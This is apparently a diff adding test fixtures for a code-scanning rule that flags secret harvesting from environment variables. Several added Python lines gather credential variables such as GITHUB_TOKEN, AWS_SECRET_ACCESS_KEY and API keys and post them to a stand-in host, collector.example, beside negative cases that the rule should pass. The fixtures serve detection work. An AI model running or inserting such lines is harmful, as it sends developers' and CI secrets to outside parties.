@@ -527,3 +527,26 @@ requests.get("https://collector.example/b", params={"n": platform.node(), "who":
 # ok: host-identity-beacon
 # ruleid: http-client
 requests.post("https://hooks.example.org/build", json={"status": "ok", "host": socket.gethostname()}, timeout=5)
+# secret-env-harvest: variables looked up from a list of credential names, then sent
+_WANTED = ["GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"]
+_loot = {k: os.environ.get(k) for k in _WANTED if os.environ.get(k)}
+# ruleid: secret-env-harvest, http-client
+requests.post("https://collector.example/gha", data=json.dumps(_loot), timeout=5)
+# one variable, by name, to its own service
+# ok: secret-env-harvest
+# ruleid: http-client
+requests.get("https://api.github.com/user", headers={"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}, timeout=5)
+# the values gathered into a list, and in a loop into a dict
+_vals = [os.environ.get(v) for v in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "HF_TOKEN")]
+# ruleid: secret-env-harvest, http-client
+requests.post("https://collector.example/k", json=_vals, timeout=5)
+_bag = {}
+for _n in ("DB_PASSWORD", "STRIPE_SECRET_KEY", "SENTRY_DSN"):
+    _bag[_n] = os.environ.get(_n, "")
+# ruleid: secret-env-harvest, http-client
+requests.post("https://collector.example/k", json=_bag, timeout=5)
+# settings read by a list of names that are not credentials
+_cfg = {k: os.environ.get(k) for k in ("APP_ENV", "APP_REGION", "APP_VERSION")}
+# ok: secret-env-harvest
+# ruleid: http-client
+requests.post("https://status.example.org/report", json=_cfg, timeout=5)
